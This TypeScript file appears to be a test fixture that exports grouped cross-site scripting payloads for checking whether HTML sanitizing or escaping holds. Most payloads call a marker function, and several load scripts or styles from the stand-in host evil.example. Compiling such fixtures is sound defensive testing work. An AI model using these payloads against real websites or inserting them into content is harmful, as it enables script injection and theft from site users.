// Texts that somebody writes who wants his script to run in the browser of who reads them.
// Every one calls seen(), loads from evil.example or asks a question, if it is taken for more than a text.
const call = 'seen(1)'

/** encoded writes a script in ways that a browser decodes again. */
const encoded = [
  '&#115;een(1)', '&#x73;een(1)', '&#0000115een(1)', '\\u0073een(1)', '\\x73een(1)', '%73een(1)', 'se/**/en(1)', "top['se'+'en'](1)", 'window["\\163een"](1)', '&lpar;seen&rpar;(1)',
]

const tags = [
  `<script>${call}</script>`, `<SCRIPT>${call}</SCRIPT>`, `<scr<script>ipt>${call}</scr</script>ipt>`, `<script src=//evil.example/x.js></script>`, `<script src=data:,${call}></script>`,
  `<script\x0b>${call}</script\n>`, `<script/x>${call}</script>`, `</script><script>${call}</script>`, `<script type=module>${call}</script>`, `<script>//\n${call}</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`, `<iframe src=javascript:parent.${call}></iframe>`, `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<object data=javascript:${call}>`, `<embed src=javascript:${call}>`, `<base href=//evil.example/>`, `<meta http-equiv=refresh content="0;url=//evil.example">`,
  `<link rel=stylesheet href=//evil.example/x.css>`, `<style>@import '//evil.example/x.css';</style>`, `<style>*{background:url(//evil.example)}</style>`, `<template><script>${call}</script></template>`,
  `<form action=//evil.example><button>x</button></form>`, `<isindex type=image src=x onerror=${call}>`, `<plaintext onclick=${call}>`, `<xmp><img src=x onerror=${call}></xmp>`,
]

const events = [
  `<img src=x onerror=${call}>`, `<img src=x onerror="${call}"`, `<IMG SRC=x OnErRoR=${call}>`, `<img/src=x/onerror=${call}>`, `<img src=x\nonerror\n=\n${call}>`, `<img src="x\`\`onerror=${call}//">`,
  `<body onload=${call}>`, `<body onpageshow=${call}>`, `<input autofocus onfocus=${call}>`, `<select autofocus onfocus=${call}>`, `<textarea autofocus onfocus=${call}>`, `<details open ontoggle=${call}>x</details>`,
  `<video><source onerror=${call}></video>`, `<audio src=x onerror=${call}>`, `<video poster=x onloadstart=${call} src=x>`, `<marquee onstart=${call}>x</marquee>`, `<div style="animation:x 1s" onanimationstart=${call}>`,
  `<div onmouseover=${call} style=position:fixed;inset:0>x</div>`, `<a onpointerenter=${call}>x</a>`, `<div contenteditable autofocus onfocusin=${call}>x</div>`, `<img srcset=x onerror=${call}>`, `<link rel=stylesheet href=x onerror=${call}>`,
]

const quotes = [
  `"><img src=x onerror=${call}>`, `'><img src=x onerror=${call}>`, `"><script>${call}</script>`, `'"><svg onload=${call}>`, `" onmouseover="${call}`, `' onmouseover='${call}`, `" autofocus onfocus="${call}" x="`,
  `\` onmouseover=${call} \``, `--><img src=x onerror=${call}>`, `]]><img src=x onerror=${call}>`, `</title><img src=x onerror=${call}>`, `</textarea><img src=x onerror=${call}>`, `</style><img src=x onerror=${call}>`,
  `";${call};//`, `';${call};//`, `\\";${call};//`, `\\';${call}//`, `{"__proto__":{"x":"<img src=x onerror=${call}>"}}`,
]

const addresses = [
  `javascript:${call}`, `JaVaScRiPt:${call}`, `java\tscript:${call}`, `java\nscript:${call}`, `\x01javascript:${call}`, ` javascript:${call}`, `javascript&colon;${call}`, `javascript://%0a${call}`, `data:text/html,<script>opener.${call}</script>`,
  `data:text/html;base64,PHNjcmlwdD5zZWVuKDEpPC9zY3JpcHQ+`, `vbscript:${call}`, `<a href=javascript:${call}>x</a>`, `<a href="java&#9;script:${call}">x</a>`, `//evil.example/x`, `https://evil.example@127.0.0.1/`,
]

const drawings = [
  `<svg onload=${call}>`, `<svg/onload=${call}>`, `<svg><script>${call}</script></svg>`, `<svg><script href=data:,${call} /></svg>`, `<svg><animate onbegin=${call} attributeName=x dur=1s>`, `<svg><set onbegin=${call} attributeName=x>`,
  `<svg><a xlink:href=javascript:${call}><text y=20>x</text></a></svg>`, `<svg><use href=data:image/svg+xml,x#x></svg>`, `<svg><foreignObject><img src=x onerror=${call}></foreignObject></svg>`, `<math><mtext><table><mglyph><style><img src=x onerror=${call}>`,
  `<math href=javascript:${call}>x</math>`, `<svg><style>{font-family:'<img/src=x onerror=${call}>'}</style></svg>`,
]

const templates = [
  `{{constructor.constructor('${call}')()}}`, `{{=${call}}}`, `\${${call}}`, `#{${call}}`, `<%= ${call} %>`, `{{{${call}}}}`, `{%raw%}${call}{%endraw%}`, `$t(x){{${call}}}`, `[x](javascript:${call})`, `![x](x "onerror=${call}")`,
  `[x]: javascript:${call}`, `<x@evil.example><img src=x onerror=${call}>`, `=HYPERLINK("javascript:${call}","x")`, `"x","<img src=x onerror=${call}>"`, `a|<img src=x onerror=${call}>|b`,
]

const letters = [
  `＜script＞${call}＜/script＞`, `‹img src=x onerror=${call}›`, `<ſcript>${call}</ſcript>`, `<img src=x onerror=\u202e)1(nees>`, `\ufeff<img src=x onerror=${call}>`, `<\u200bimg src=x onerror=${call}>`, `%3Cimg%20src%3Dx%20onerror%3D${call}%3E`,
  `&lt;img src=x onerror=${call}&gt;`, `&amp;lt;img src=x onerror=${call}&amp;gt;`, `\\u003cimg src=x onerror=${call}\\u003e`, `\\x3cimg src=x onerror=${call}\\x3e`, `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
  `华为<img src=x onerror=${call}>有限公司`, `𝓼<img src=x onerror=${call}>`, `<img src=x onerror=${call}>`.split('').join('\u200d'),
]

export const hostile = [...new Set([
  ...tags, ...events, ...quotes, ...addresses, ...drawings, ...templates, ...letters, ...encoded.map((code) => `<img src=x onerror=${code}>`),
])]

/** greedy takes what follows it for its own, if it is taken for more than a text. */
const greedy = (text: string) => /<(script|style|plaintext|xmp|textarea|title|template|noscript|iframe|svg|math|!)/i.test(text)

/** together are the same texts, four in one where there is room for them: what is greedy comes last. */
export const together = (() => {
  const calm = hostile.filter((text) => !greedy(text)), last = hostile.filter(greedy)
  const groups = Array.from({ length: Math.max(last.length, Math.ceil(calm.length / 3)) }, (_, i) => [...calm.slice(3 * i, 3 * i + 3), ...last.slice(i, i + 1)])
  return groups.map((group) => group.join(' '))
})()
